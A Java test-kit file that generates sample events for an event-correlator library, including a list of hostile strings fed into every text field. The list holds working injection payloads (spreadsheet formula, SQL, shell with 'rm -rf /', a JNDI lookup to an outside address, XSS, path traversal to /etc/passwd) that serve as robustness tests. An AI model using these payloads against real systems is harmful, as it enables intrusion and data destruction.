package dev.correlator.testkit;

import dev.correlator.api.ErrorEvent;
import dev.correlator.api.Event;
import dev.correlator.api.EventEnvelope;
import dev.correlator.api.Outcome;
import dev.correlator.api.Severity;
import dev.correlator.api.StatisticsEvent;
import dev.correlator.api.TransactionEvent;
import java.lang.reflect.Constructor;
import java.lang.reflect.RecordComponent;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collection;
import java.util.Collections;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.jspecify.annotations.Nullable;

/** The events of the contract kit: ordinary, hostile and incomplete ones of some classes. */
final class ContractEvents {

  enum Method {
    PASSWORD,
    PUBLICKEY
  }

  /** A transaction with a component of each type. */
  record Work(
      @Nullable String user,
      @Nullable String path,
      int tries,
      long bytes,
      boolean root,
      @Nullable Method method,
      @Nullable Instant confirmed,
      @Nullable Duration length)
      implements TransactionEvent {}

  /** A finding. */
  record Finding(@Nullable String addr, int count) implements ErrorEvent {}

  /** Numbers of a period. */
  record Numbers(long completed, long failed) implements StatisticsEvent {}

  /** What comes out of logs that someone fills who means harm, and what comes out of any log. */
  private static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "\u0000",
          "two\nlines\r\nand a third",
          "\u001b]0;title\u0007\u001b[2J\u009b31m",
          "\u202egnp.exe\u2028\u2029\u2066\ufeff",
          "\ud83d half a character \ude00",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-1+1",
          "@SUM(A1:A9)",
          "\t=1",
          "say \"hi\", it's \\ done;",
          "'); DROP TABLE events;--",
          "$(id) `id` ; rm -rf / | mail",
          "${jndi:ldap://203.0.113.7/x} #{1+1} {{7*7}} <%= 1 %>",
          "<svg onload=alert(1)>&amp;",
          "../../../../etc/passwd",
          "..\\..\\x",
          "%2e%2e%2f%252e",
          "x\r\nBcc: all@example.org\u760d\u760a",
          "-rf",
          "ünïcödé 日本語 😀 \u0301",
          "x".repeat(100_000));

  private final List<Class<? extends Event>> types;

  private ContractEvents(List<Class<? extends Event>> types) {
    this.types = types;
  }

  static ContractEvents standard() {
    return new ContractEvents(List.of(Work.class, Finding.class, Numbers.class));
  }

  static ContractEvents of(Collection<Class<? extends Event>> types) {
    for (Class<? extends Event> type : types) {
      if (!type.isRecord()) {
        throw new IllegalArgumentException(type.getName() + " is not a record");
      }
    }
    return new ContractEvents(List.copyOf(types));
  }

  Set<Class<? extends Event>> types() {
    return new HashSet<>(types);
  }

  /** Events as they come, of each class in turn, as many of each. */
  List<EventEnvelope<?>> ordinary(int count) {
    List<EventEnvelope<?>> events = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      for (Class<? extends Event> type : types) {
        events.add(envelope(recordClass(type), "value " + i, i));
      }
    }
    return Collections.unmodifiableList(events);
  }

  /** Each hostile text in each place that texts of logs come to. */
  List<EventEnvelope<?>> hostile() {
    List<EventEnvelope<?>> events = new ArrayList<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      for (Class<? extends Event> type : types) {
        events.add(envelope(recordClass(type), HOSTILE.get(i), i));
      }
    }
    return Collections.unmodifiableList(events);
  }

  /** Events without all that an event may lack. */
  List<EventEnvelope<?>> missing() {
    List<EventEnvelope<?>> events = new ArrayList<>();
    for (Class<? extends Event> type : types) {
      events.add(
          SampleEvent.builder(event(recordClass(type), null, 0))
              .severity(Severity.EMERGENCY)
              .build());
    }
    return Collections.unmodifiableList(events);
  }

  @SuppressWarnings("unchecked") // all are records, see of
  private static <E extends Record & Event> Class<E> recordClass(Class<? extends Event> type) {
    return (Class<E>) type;
  }

  private static <E extends Record & Event> SampleEvent<E> envelope(
      Class<E> type, String text, int number) {
    SampleEvent.Builder<E> builder =
        SampleEvent.builder(event(type, text, number))
            .time(SampleEvent.TIME.plusMillis(number))
            .key(text, "4242")
            .severity(Severity.EMERGENCY)
            .record(text)
            .message(text);
    if (TransactionEvent.class.isAssignableFrom(type)) {
      builder.outcome(Outcome.FAILED, text).retryKey(text);
    }
    return builder.build();
  }

  private static <E extends Record & Event> E event(
      Class<E> type, @Nullable String text, int number) {
    RecordComponent[] components = type.getRecordComponents();
    Class<?>[] kinds = new Class<?>[components.length];
    @Nullable Object[] values = new Object[components.length];
    for (int i = 0; i < components.length; i++) {
      kinds[i] = components[i].getType();
      values[i] = value(kinds[i], text, number);
    }
    try {
      Constructor<E> constructor = type.getDeclaredConstructor(kinds);
      constructor.setAccessible(true); // an event of a test may be its own
      return constructor.newInstance(values);
    } catch (ReflectiveOperationException e) {
      throw new IllegalArgumentException("no event of " + type.getName() + " can be made", e);
    }
  }

  private static @Nullable Object value(Class<?> kind, @Nullable String text, int number) {
    if (kind == int.class) {
      return number;
    }
    if (kind == long.class) {
      return (long) number << 33;
    }
    if (kind == boolean.class) {
      return number % 2 == 0;
    }
    if (text == null) {
      return null;
    }
    if (kind == String.class) {
      return text;
    }
    if (kind == Instant.class) {
      return SampleEvent.TIME.plusNanos(number);
    }
    if (kind == Duration.class) {
      return Duration.ofMillis(number);
    }
    Object[] constants = kind.getEnumConstants();
    if (constants == null) {
      throw new IllegalArgumentException("no component of an event is a " + kind.getName());
    }
    return constants[number % constants.length];
  }
}
